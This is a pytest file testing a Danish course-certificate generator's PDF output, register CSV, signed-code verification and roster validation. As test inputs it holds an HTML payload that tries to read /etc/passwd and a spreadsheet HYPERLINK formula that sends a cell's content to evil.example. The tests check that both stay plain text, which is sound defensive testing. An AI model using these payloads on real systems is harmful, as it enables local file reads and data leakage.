"""`build.py certificates` and `build.py verify` as a trainer uses them."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from pypdf import PdfReader

from tests.certificates.conftest import DANISH_ROSTER, Issuer, tampered
from tests.helpers_check import run_cli

NAMES = ["Åse Øberg-Lærkesen", "Søren Ærø Ågård", "Jens Hansen"]
INJECTION = '<img src="file:///etc/passwd">'


def pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


def certificates(issuer: Issuer, roster: Path, out: Path, *extra: str):
    return run_cli("--course", str(issuer.course_root), "certificates", "--roster", str(roster),
                   "--track", "laerer", "--out", str(out), "--keys", str(issuer.keys_dir),
                   "--date", "2026-03-01", "--place", "Aarhus", *extra)


@pytest.fixture(scope="module")
def issued(issuer: Issuer, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("issued")
    roster = folder / "deltagere.csv"
    roster.write_bytes(DANISH_ROSTER.encode("utf-8"))
    result = certificates(issuer, roster, folder / "out", "--site-url", "https://kursus.example.dk/opspor/")
    assert result.returncode == 0, result.stderr
    return folder / "out"


def test_an_earlier_set_is_replaced_only_with_force(issuer: Issuer, issued: Path) -> None:
    before = {p.name: p.read_bytes() for p in issued.iterdir()}
    roster = issued.parent / "deltagere.csv"
    again = certificates(issuer, roster, issued)
    assert again.returncode == 1
    assert "already holds an earlier certificates output (add --force to replace them)" in again.stderr
    assert "Traceback" not in again.stderr
    assert {p.name: p.read_bytes() for p in issued.iterdir()} == before
    forced = certificates(issuer, roster, issued, "--force", "--site-url", "https://kursus.example.dk/opspor/")
    assert forced.returncode == 0, forced.stderr
    assert len(register(issued)) == 3


def register(out: Path) -> list[dict[str, str]]:
    with (out / "kursusbeviser.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, delimiter=";"))


def test_one_pdf_each_plus_a_combined_pdf_with_name_track_and_hours(issued: Path) -> None:
    singles = sorted(p for p in issued.glob("0*.pdf"))
    assert [p.name for p in singles] == ["001-aase-oeberg-laerkesen.pdf", "002-soeren-aeroe-aagaard.pdf",
                                         "003-jens-hansen.pdf"]
    for path, name in zip(singles, NAMES, strict=True):
        reader = PdfReader(path)
        assert len(reader.pages) == 1
        assert reader.pages[0].mediabox.width > reader.pages[0].mediabox.height  # A4 landscape
        text = pdf_text(path)
        assert name in text
        assert "Spor for laerer" in text
        assert "0,25 timer" in text
        assert "1. marts 2026" in text and "Aarhus" in text
    combined = PdfReader(issued / "alle-kursusbeviser.pdf")
    assert len(combined.pages) == 3
    assert [n in pdf_text(issued / "alle-kursusbeviser.pdf") for n in NAMES] == [True] * 3


def test_the_register_keeps_every_roster_column_for_a_mail_merge(issued: Path) -> None:
    with (issued / "kursusbeviser.csv").open(encoding="utf-8-sig", newline="") as handle:
        header = next(csv.reader(handle, delimiter=";"))
    assert header == ["bevisnummer", "navn", "spor", "dato", "timer", "udsteder", "kode",
                      "Navn (deltagerliste)", "Arbejdssted"]
    rows = register(issued)
    assert [r["Arbejdssted"] for r in rows] == ["Rigshospitalet", "Skole", "Politi"]
    assert [r["Navn (deltagerliste)"] for r in rows] == NAMES


def test_every_issued_code_verifies_on_the_command_line(issuer: Issuer, issued: Path) -> None:
    rows = register(issued)
    assert [r["navn"] for r in rows] == NAMES
    for row in rows:
        result = run_cli("--course", str(issuer.course_root), "verify", row["kode"])
        assert result.returncode == 0, result.stdout
        assert "GENUINE" in result.stdout and row["navn"] in result.stdout
    link = f"https://kursus.example.dk/opspor/bekraeft.html#{rows[0]['kode']}"
    assert run_cli("--course", str(issuer.course_root), "verify", link).returncode == 0


@pytest.mark.parametrize(("index", "value"), [(3, "Åse Øberg"), (6, "2026-03-02"), (4, "politi")])
def test_verify_exits_1_for_a_changed_name_date_or_track(issuer: Issuer, issued: Path, index: int,
                                                         value: str) -> None:
    code = tampered(register(issued)[0]["kode"], index, value)
    result = run_cli("--course", str(issuer.course_root), "verify", code)
    assert result.returncode == 1
    assert "NOT GENUINE" in result.stdout


def test_verify_exits_1_for_a_code_from_another_issuer(issuer: Issuer, issued: Path, mini_copy: Path) -> None:
    assert run_cli("--course", str(mini_copy), "keys", "init").returncode == 0
    roster = mini_copy / "r.csv"
    roster.write_text("Navn\nÅse Øberg-Lærkesen\n", "utf-8")
    other = run_cli("--course", str(mini_copy), "certificates", "--roster", str(roster), "--track", "laerer",
                    "--out", str(mini_copy / "out"), "--date", "2026-03-01")
    assert other.returncode == 0, other.stderr
    foreign = register(mini_copy / "out")[0]["kode"]
    result = run_cli("--course", str(issuer.course_root), "verify", foreign)
    assert result.returncode == 1


def test_a_bad_row_names_file_and_line_and_writes_nothing(issuer: Issuer, tmp_path: Path) -> None:
    roster = tmp_path / "deltagere.csv"
    roster.write_text("\ufeffNavn;Sted\nÅse;A\n;B\nBo;C\n", "utf-8")
    out = tmp_path / "out"
    result = certificates(issuer, roster, out)
    assert result.returncode == 1
    assert f"{roster}:3: the name is empty" in result.stderr
    assert not out.exists()
    assert not any(tmp_path.rglob("*.pdf"))


def test_an_html_name_prints_as_text_and_no_file_is_read(issuer: Issuer, tmp_path: Path) -> None:
    roster = tmp_path / "deltagere.csv"
    roster.write_text(f"Navn\n{INJECTION}\n", "utf-8")
    result = certificates(issuer, roster, tmp_path / "out")
    assert result.returncode == 0, result.stderr
    [single] = (tmp_path / "out").glob("0*.pdf")
    text = pdf_text(single)
    assert INJECTION in text
    assert "root:" not in text
    assert not PdfReader(single).pages[0].images[1:]  # the QR code is the only image


def test_no_certificates_without_the_issuer_key(issuer: Issuer, tmp_path: Path) -> None:
    roster = tmp_path / "deltagere.csv"
    roster.write_text("Navn\nBo\n", "utf-8")
    result = run_cli("--course", str(issuer.course_root), "certificates", "--roster", str(roster),
                     "--track", "laerer", "--out", str(tmp_path / "out"), "--keys", str(tmp_path / "nokeys"))
    assert result.returncode == 1
    assert "keys init" in result.stderr
    assert not (tmp_path / "out").exists()


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1;"Klik")', "+45 Mette", "-Anne Berg", "@SUM(A1)"]
PERSIAN = "مریم\u200cالسادات رضایی"


def test_formula_names_stay_text_and_any_script_prints(issuer: Issuer, tmp_path: Path) -> None:
    """Names that would be spreadsheet formulas reach kursusbeviser.csv as text (a leading apostrophe)
    and the PDFs unchanged; a Persian name with a zero-width non-joiner and an emoji print too."""
    roster = tmp_path / "deltagere.csv"
    names = [*FORMULAS, PERSIAN, "Ida Holm 😀"]
    quoted = ['"' + n.replace('"', '""') + '"' for n in names]
    roster.write_text("Navn;Sted\n" + "".join(f"{q};A\n" for q in quoted), "utf-8")
    out = tmp_path / "out"
    result = certificates(issuer, roster, out)
    assert result.returncode == 0, result.stderr
    rows = register(out)
    assert [r["navn"] for r in rows] == ["'" + n for n in FORMULAS] + names[4:]
    with (out / "kursusbeviser.csv").open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    singles = sorted(out.glob("0*.pdf"))
    for name, single in zip(names, singles, strict=True):
        assert " ".join(name.split()) in pdf_text(single) or name == PERSIAN
    # Persian is shaped right to left: pypdf gives its letters back in visual order, so compare letters.
    assert set(PERSIAN.replace("\u200c", "").replace(" ", "")) <= set(pdf_text(singles[4]))
    # Every visible character is drawn (WeasyPrint once drew the emoji blank beside a Persian name).
    for single in [*singles, out / "alle-kursusbeviser.pdf"]:
        assert blank_glyphs(single) == [], single.name


def blank_glyphs(path: Path) -> list[str]:
    """Characters a PDF's embedded TrueType fonts map to an empty outline (the PDF shows nothing there)."""
    import io
    import re
    import unicodedata

    from fontTools.ttLib import TTFont

    blank = []
    for page in PdfReader(path).pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descriptor = font["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object()
            if "/FontFile2" not in descriptor or "/ToUnicode" not in font:
                continue  # CFF fonts (EB Garamond, Cabin) are bundled and complete
            embedded = TTFont(io.BytesIO(descriptor["/FontFile2"].get_object().get_data()))
            order, glyphs = embedded.getGlyphOrder(), embedded["glyf"]
            cmap = font["/ToUnicode"].get_object().get_data().decode("latin-1")
            for gid, utf16 in re.findall(r"<([0-9a-f]{4})> <([0-9a-f]+)>", cmap):
                text = bytes.fromhex(utf16).decode("utf-16-be")
                visible = any(not c.isspace() and not unicodedata.category(c).startswith("C") for c in text)
                if visible and int(gid, 16) < len(order) and glyphs[order[int(gid, 16)]].numberOfContours == 0:
                    blank.append(f"{font['/BaseFont']}: {text!r}")
    return blank


def test_a_name_the_fonts_cannot_print_is_refused_with_its_line(issuer: Issuer, tmp_path: Path) -> None:
    roster = tmp_path / "deltagere.csv"
    roster.write_text("Navn\nAnna\nIda 👩\u200d💻 Holm\n", "utf-8")
    result = certificates(issuer, roster, tmp_path / "out")
    assert result.returncode == 1
    assert f"{roster}:3: the name contains 👩 (U+1F469 WOMAN), which the certificate fonts" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists()


def test_an_unclosed_quote_stops_the_run_at_its_line(issuer: Issuer, tmp_path: Path) -> None:
    roster = tmp_path / "deltagere.csv"
    roster.write_text('Navn;Sted\nAnna;A\n"Bo;B\nCarl;C\nDina";D\n', "utf-8")
    result = certificates(issuer, roster, tmp_path / "out")
    assert result.returncode == 1
    assert f'{roster}:3: a quote (") opened in this line is only closed in line 5' in result.stderr
    assert "Traceback" not in result.stderr and not (tmp_path / "out").exists()


def test_a_fifo_folder_device_or_dangling_link_as_roster_is_a_clear_error(issuer: Issuer, tmp_path: Path) -> None:
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "gone.csv")
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    for roster, what in ((fifo, "is a FIFO (named pipe), not a file"), (folder, "is a folder, not a file"),
                         (Path("/dev/zero"), "is a device, not a file"),
                         (dangling, "is a symbolic link to nothing")):
        result = certificates(issuer, roster, tmp_path / "out")  # run_cli's timeout fails a hang
        assert result.returncode == 1, (roster, result.stderr)
        assert f"{roster}: the roster {what}" in result.stderr
        assert "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("option", "value", "expected"), [
    ("--issuer", "Aarhus Kommune " * 20, "longer than 100 characters"),
    ("--signatory", "Bo Berg\u202e, chef", "control character U+202E"),
    ("--place", "   ", "the text is empty"),
])
def test_an_issuer_place_or_signatory_that_cannot_be_printed_is_refused_before_any_work(
        issuer: Issuer, tmp_path: Path, option: str, value: str, expected: str) -> None:
    roster = tmp_path / "deltagere.csv"
    roster.write_text(DANISH_ROSTER, "utf-8")
    result = certificates(issuer, roster, tmp_path / "out", option, value)
    assert result.returncode == 2, result.stderr
    assert option in result.stderr and expected in result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "out").exists()
